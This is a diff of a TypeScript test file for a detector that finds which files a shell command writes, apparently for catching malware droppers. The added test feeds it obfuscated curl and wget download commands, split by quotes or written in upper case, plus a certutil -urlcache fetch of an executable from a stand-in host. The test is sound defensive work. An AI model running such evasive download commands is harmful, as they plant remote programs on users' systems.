@@ -33,6 +33,18 @@ test('the files a command writes: every way a dropper puts a program on disk', (
   assert.deepEqual(written('ls -la /tmp > /dev/null; gcc -o out x.c; ssh -o BatchMode=yes h'), []);
 });
 
+test('writers spelled in pieces, upper case or by path are still read: the shortcut for plain lines is a superset', () => {
+  const fetched = (command: string) => filesWrittenBy(command).map((f) => f.path);
+  assert.deepEqual(fetched('c"u"rl -o /tmp/x http://h/x'), ['/tmp/x']);
+  assert.deepEqual(fetched("w'g'et -O /tmp/y http://h/y"), ['/tmp/y']);
+  assert.deepEqual(fetched('/usr/bin/CURL -o /tmp/z http://h/z'), ['/tmp/z']);
+  assert.deepEqual(fetched('C:\\Windows\\System32\\certutil.exe -urlcache -f http://h/m C:\\m.exe'), ['C:\\m.exe']);
+  assert.deepEqual(fetched('install -m 755 /tmp/a /usr/local/bin/a'), ['/usr/local/bin/a']);
+  assert.deepEqual(fetched('echo 1>/tmp/flag'), ['/tmp/flag']);
+  assert.deepEqual(fetched('ls -la /var/www/alpha'), []);
+  assert.deepEqual(fetched('python3 worker.py --queue jobs'), []);
+});
+
 test('relative paths resolve against the working directory, or not at all', () => {
   assert.equal(resolvePath('kd', '/var/tmp'), '/var/tmp/kd');
   assert.equal(resolvePath('./a/../kd', '/tmp/'), '/tmp/kd');
